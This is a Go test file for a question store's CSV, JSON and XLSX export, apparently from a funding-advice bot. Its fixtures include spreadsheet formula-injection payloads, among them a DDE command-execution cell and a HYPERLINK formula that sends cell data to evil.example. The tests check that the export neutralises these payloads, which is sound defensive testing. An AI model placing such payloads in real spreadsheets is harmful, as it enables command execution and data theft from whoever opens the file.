package store

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"
)

func TestMain(m *testing.M) {
	code := m.Run()
	if fixtureDir != "" {
		os.RemoveAll(fixtureDir)
	}
	os.Exit(code)
}

// bulkPut writes n generated questions in one transaction, numbering them as
// Log does; it builds large logs quickly without an fsync per question.
func bulkPut(t testing.TB, s *Store, n int, gen func(i int) *Question) {
	t.Helper()
	err := s.db.Update(func(tx *bolt.Tx) error {
		b := tx.Bucket(bucketQuestions)
		b.FillPercent = 0.9 // appending in key order
		for i := range n {
			q := gen(i)
			seq, err := b.NextSequence()
			if err != nil {
				return err
			}
			q.ID = formatID(seq)
			if err := b.Put(seqKey(seq), encodeRecord(q)); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatalf("bulk put %d questions: %v", n, err)
	}
}

// realistic returns a question shaped like the bot's: a paragraph of text,
// two refs, and for some an NSG answer.
func realistic(i int) *Question {
	q := sampleQuestion(i)
	q.AskedAt = time.Date(2009, 10, 1, 9, 0, 0, 0, time.UTC).Add(time.Duration(i) * time.Minute)
	q.Question = fmt.Sprintf("Question %d: our consortium includes two universities and a primary care trust; "+
		"may the lead applicant be the trust, and does the £250k match funding have to be cash, or can it be in kind?", i)
	q.Status = StatusAwaiting
	if i%3 == 0 {
		at := q.AskedAt.Add(48 * time.Hour)
		q.Status, q.NSGAnswer, q.AnsweredBy, q.AnsweredAt = StatusNSGAnswered,
			"Yes, the trust may lead. Match funding may be in kind if it is costed; see the guide, slide 17.", "NSG", &at
	}
	return q
}

var (
	fixtureDir  string
	fixtureMu   sync.Mutex
	fixturePath = map[int]string{}
)

// fixture returns a closed log file holding n realistic questions, built
// once per test binary run.
func fixture(t testing.TB, n int) string {
	t.Helper()
	fixtureMu.Lock()
	defer fixtureMu.Unlock()
	if p, ok := fixturePath[n]; ok {
		return p
	}
	if fixtureDir == "" {
		dir, err := os.MkdirTemp("", "hiecbot-store-fixture-")
		if err != nil {
			t.Fatal(err)
		}
		fixtureDir = dir
	}
	p := filepath.Join(fixtureDir, fmt.Sprintf("q%d.db", n))
	s, err := Open(p, Options{})
	if err != nil {
		t.Fatal(err)
	}
	bulkPut(t, s, n, realistic)
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	fixturePath[n] = p
	return p
}

// tricky holds cells that must be neutralised or survive quoting.
func tricky(c *clock) []*Question {
	at := c.Now().Add(time.Hour)
	return []*Question{
		{UserID: "U1", UserName: "=cmd|' /C calc'!A0", Question: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Via: "dm",
			Refs: []Ref{{Source: "Guide", Ref: "slide 17", Title: "Application process", Citation: "Guide, slide 17", Score: 1.234}, {Source: "FAQ", Ref: "Q3", Title: "Consortia", Score: 0.5}}},
		{UserID: "U2", UserName: "+44 20 7946 0000", Question: "-2+3", ThreadTS: "1254000000.000100", Via: "mention"},
		{UserID: "U3", UserName: "@SUM(A1:A9)", Question: "\tTabbed", Via: "command", Confident: true},
		{UserID: "U4", UserName: "Zoë Brontë", Question: "\rCarriage\r\nreturns and\nlines", Via: "console",
			Status: StatusPublished, NSGAnswer: "Match funding of £250k, \"in kind\", counts; see café notes, slide 3.", AnsweredBy: "NSG",
			AnsweredAt: &at, PublishedAt: &at, Feedback: "helpful"},
		{UserID: "U5", UserName: "Plain", Question: "", Via: "dm"},
	}
}

// wantHeadings are the export's headings in London, in the order staff read.
var wantHeadings = []string{
	"Id", "Asked (Europe/London)", "Question", "Status", "Bot's answer (citation)",
	"NSG answer", "Answered by", "Answered at (Europe/London)", "Published as (C-number)",
	"Followers", "Asker", "Team", "Channel",
	"Bot confident", "Published at (Europe/London)", "Helpful", "Follows", "NSG cited", "Late",
	"User id", "Channel id", "Thread ts", "Via",
}

func london(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Europe/London")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// openLondon opens a store whose exports show London time.
func openLondon(t testing.TB, c *clock) *Store {
	t.Helper()
	s, err := Open(testPath(t), Options{Timeout: time.Second, Now: c.Now, Location: london(t)})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	return s
}

func TestExportHeadings(t *testing.T) {
	if got := headings(london(t)); !reflect.DeepEqual(got, wantHeadings) {
		t.Errorf("headings = %q\nwant %q", got, wantHeadings)
	}
	if got := headings(nil)[1]; got != "Asked (UTC)" {
		t.Errorf("without a zone the heading is %q; want Asked (UTC)", got)
	}
	if printedColumns != indexOf(wantHeadings, "Channel")+1 {
		t.Errorf("printedColumns = %d; want the issue's columns, Id to Channel", printedColumns)
	}
}

func TestParseFormat(t *testing.T) {
	tests := []struct {
		in   string
		want Format
		err  string
	}{
		{"csv", FormatCSV, ""},
		{" JSON ", FormatJSON, ""},
		{".xlsx", FormatXLSX, ""},
		{"xls", "", `unknown export format "xls": valid formats are csv, json, xlsx`},
		{"", "", `unknown export format "": valid formats are csv, json, xlsx`},
	}
	for _, tt := range tests {
		got, err := ParseFormat(tt.in)
		if tt.err != "" {
			if err == nil || err.Error() != tt.err {
				t.Errorf("ParseFormat(%q) = %q, %v; want error %q", tt.in, got, err, tt.err)
			}
			continue
		}
		if err != nil || got != tt.want {
			t.Errorf("ParseFormat(%q) = %q, %v; want %q", tt.in, got, err, tt.want)
		}
	}
	s := openTest(t, testPath(t), nil)
	var buf bytes.Buffer
	if n, err := s.Export(&buf, "pdf", Filter{}); err == nil || n != 0 || buf.Len() != 0 ||
		!strings.Contains(err.Error(), `unknown export format "pdf": valid formats are csv, json, xlsx`) {
		t.Errorf("Export as pdf = %d, %v, %d bytes; want an error naming pdf and nothing written", n, err, buf.Len())
	}
}

func TestRefString(t *testing.T) {
	tests := []struct {
		r    Ref
		want string
	}{
		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Citation: "Guide, slide 17", Score: 1.234}, "Guide, slide 17: Application process (1.23)"},
		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Citation: "Guide, slide 17: Application process", Score: 0.65}, "Guide, slide 17: Application process (0.65)"},
		{Ref{Source: "Guide", Ref: "slide 17", Title: "Application process", Score: 1.235}, "Guide, slide 17: Application process (1.24)"},
		{Ref{Source: "FAQ", Title: "Consortia", Score: 0.5}, "FAQ: Consortia (0.50)"},
		{Ref{Title: "Untitled source"}, "Untitled source (0.00)"},
	}
	for _, tt := range tests {
		if got := tt.r.String(); got != tt.want {
			t.Errorf("%+v.String() = %q; want %q", tt.r, got, tt.want)
		}
	}
	refs := []Ref{tests[0].r, tests[3].r}
	if got, want := citations(refs, "; "), "Guide, slide 17: Application process; FAQ: Consortia"; got != want {
		t.Errorf("citations = %q; want %q", got, want)
	}
}

func TestExportCSV(t *testing.T) {
	c := newClock()
	s := openLondon(t, c)
	for _, q := range tricky(c) {
		mustLog(t, s, q)
	}
	var buf bytes.Buffer
	n, err := s.Export(&buf, FormatCSV, Filter{})
	if err != nil || n != 5 {
		t.Fatalf("Export = %d, %v; want 5 rows", n, err)
	}
	data, ok := bytes.CutPrefix(buf.Bytes(), []byte("\xef\xbb\xbf"))
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", buf.Bytes()[:min(buf.Len(), 8)])
	}
	// Rows end in CRLF (RFC 4180); line breaks inside a cell are LF, as
	// the README says.
	if got := bytes.Count(data, []byte("\r\n")); got != 6 {
		t.Errorf("%d CRLFs; want one per row (6)", got)
	}
	if !bytes.Contains(data, []byte("\"\nCarriage\nreturns and\nlines\"")) {
		t.Errorf("a multi-line cell is not written with LF breaks:\n%q", data)
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = len(wantHeadings)
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("exported CSV does not parse: %v", err)
	}
	if !reflect.DeepEqual(rows[0], wantHeadings) {
		t.Errorf("header = %q; want %q", rows[0], wantHeadings)
	}
	if len(rows) != 6 {
		t.Fatalf("%d rows; want header and 5", len(rows))
	}
	col := func(name string) int { return indexOf(wantHeadings, name) }
	checks := []struct {
		row  int
		col  string
		want string
	}{
		{1, "Id", "Q-0001"},
		{1, "Asked (Europe/London)", "2009-10-05 10:30"},
		{1, "Asker", "'=cmd|' /C calc'!A0"},
		{1, "Question", `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{1, "Bot's answer (citation)", "Guide, slide 17: Application process\nFAQ, Q3: Consortia"},
		{1, "Bot confident", "No"},
		{1, "Status", "Awaiting NSG"},
		{1, "Answered at (Europe/London)", ""},
		{1, "Channel", "DM"},
		{1, "Helpful", ""},
		{1, "Published as (C-number)", ""},
		{1, "Followers", ""},
		{2, "Asker", "'+44 20 7946 0000"},
		{2, "Question", "'-2+3"},
		{2, "Thread ts", "1254000000.000100"},
		{2, "Via", "mention"},
		{3, "Asker", "'@SUM(A1:A9)"},
		{3, "Question", "'\tTabbed"},
		{3, "Bot confident", "Yes"},
		{3, "Status", "Answered by bot"},
		{4, "Asker", "Zoë Brontë"},
		{4, "User id", "U4"},
		{4, "Question", "\nCarriage\nreturns and\nlines"},
		{4, "NSG answer", `Match funding of £250k, "in kind", counts; see café notes, slide 3.`},
		{4, "Answered at (Europe/London)", "2009-10-05 11:30"},
		{4, "Published at (Europe/London)", "2009-10-05 11:30"},
		{4, "Helpful", "Yes"},
		{4, "Channel", "Console"},
		{5, "Question", ""},
	}
	for _, ck := range checks {
		if got := rows[ck.row][col(ck.col)]; got != ck.want {
			t.Errorf("row %d %s = %q; want %q", ck.row, ck.col, got, ck.want)
		}
	}
	// Every cell reads back as written, and none can run as a formula.
	qs, err := s.List(Filter{})
	if err != nil {
		t.Fatal(err)
	}
	for i, q := range qs {
		want := csvRecord(&q, s.loc, make([]string, len(columns)))
		if !reflect.DeepEqual(rows[i+1], want) {
			t.Errorf("row %d reads back as %q; wrote %q", i+1, rows[i+1], want)
		}
		for j, cell := range rows[i+1] {
			if cell != "" && strings.IndexByte(formulaTriggers, cell[0]) >= 0 {
				t.Errorf("row %d %s = %q starts with a formula trigger", i+1, wantHeadings[j], cell)
			}
		}
	}
}

func indexOf(ss []string, s string) int {
	for i, x := range ss {
		if x == s {
			return i
		}
	}
	panic("no column " + s)
}

func TestExportJSON(t *testing.T) {
	c := newClock()
	s := openTest(t, testPath(t), c)

	var empty bytes.Buffer
	if n, err := s.Export(&empty, FormatJSON, Filter{}); err != nil || n != 0 || empty.String() != "[]\n" {
		t.Errorf("empty JSON export = %d, %v, %q; want 0 and []", n, err, empty.String())
	}

	for _, q := range tricky(c) {
		mustLog(t, s, q)
	}
	for _, f := range []Filter{{}, {Status: []Status{StatusPublished}}} {
		var buf bytes.Buffer
		n, err := s.Export(&buf, FormatJSON, f)
		if err != nil {
			t.Fatal(err)
		}
		var got []Question
		if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
			t.Fatalf("exported JSON does not parse: %v\n%s", err, buf.Bytes())
		}
		want, err := s.List(f)
		if err != nil {
			t.Fatal(err)
		}
		if n != len(want) || !reflect.DeepEqual(got, want) {
			t.Errorf("filter %+v: JSON export (%d) = %+v\nwant %+v", f, n, got, want)
		}
	}
}

// countWriter counts bytes and samples the live heap as an export streams.
type countWriter struct {
	n        int64
	writes   int
	peakHeap uint64
}

func (w *countWriter) Write(p []byte) (int, error) {
	w.n += int64(len(p))
	if w.writes++; w.writes%16 == 0 {
		var ms runtime.MemStats
		runtime.ReadMemStats(&ms)
		w.peakHeap = max(w.peakHeap, ms.HeapAlloc)
	}
	return len(p), nil
}

// TestExportCSVMemoryFlat shows CSV export memory does not grow with the
// number of questions: the peak heap exporting 100,000 is about that of
// exporting 10,000. (Speed is BenchmarkExportCSV100k's: a time limit here
// failed on a busy machine.)
func TestExportCSVMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("builds a 100,000-question log")
	}
	peak := map[int]uint64{}
	for _, n := range []int{10_000, 100_000} {
		s, err := Open(fixture(t, n), Options{ReadOnly: true})
		if err != nil {
			t.Fatal(err)
		}
		// Building the fixture left garbage; the first collection after it
		// does not free it all.
		runtime.GC()
		runtime.GC()
		var w countWriter
		start := time.Now()
		rows, err := s.Export(&w, FormatCSV, Filter{})
		elapsed := time.Since(start)
		s.Close()
		if err != nil || rows != n {
			t.Fatalf("Export = %d, %v; want %d", rows, err, n)
		}
		peak[n] = w.peakHeap
		t.Logf("%d questions: %.1f MB of CSV in %v, peak heap %.1f MB", n, float64(w.n)/1e6, elapsed.Round(time.Millisecond), float64(w.peakHeap)/1e6)
	}
	if peak[100_000] > peak[10_000]+8<<20 {
		t.Errorf("peak heap grew from %d to %d bytes for 10x the rows; want flat", peak[10_000], peak[100_000])
	}
}

func TestExportWriteError(t *testing.T) {
	s := openTest(t, testPath(t), nil)
	bulkPut(t, s, 2000, realistic)
	boom := errors.New("disk full")
	for _, f := range Formats {
		_, err := s.Export(failWriter{boom}, f, Filter{})
		if !errors.Is(err, boom) || !strings.Contains(err.Error(), "export "+string(f)) {
			t.Errorf("%s export to a failing writer = %v; want it to report %v", f, err, boom)
		}
	}
}

type failWriter struct{ err error }

func (w failWriter) Write([]byte) (int, error) { return 0, w.err }

// BenchmarkExportCSV100k exports 100,000 questions as CSV.
func BenchmarkExportCSV100k(b *testing.B) {
	const n = 100_000
	s, err := Open(fixture(b, n), Options{ReadOnly: true})
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	b.ReportAllocs()
	var w countWriter
	start := time.Now()
	for b.Loop() {
		w = countWriter{}
		if rows, err := s.Export(&w, FormatCSV, Filter{}); err != nil || rows != n {
			b.Fatalf("Export = %d, %v", rows, err)
		}
	}
	perExport := time.Since(start) / time.Duration(b.N)
	b.ReportMetric(float64(perExport.Microseconds())/1000, "ms/export")
	b.ReportMetric(float64(w.n)/n, "csv-bytes/row")
	b.ReportMetric(float64(w.peakHeap)/1e6, "peak-heap-MB")
}

var _ io.Writer = (*countWriter)(nil)
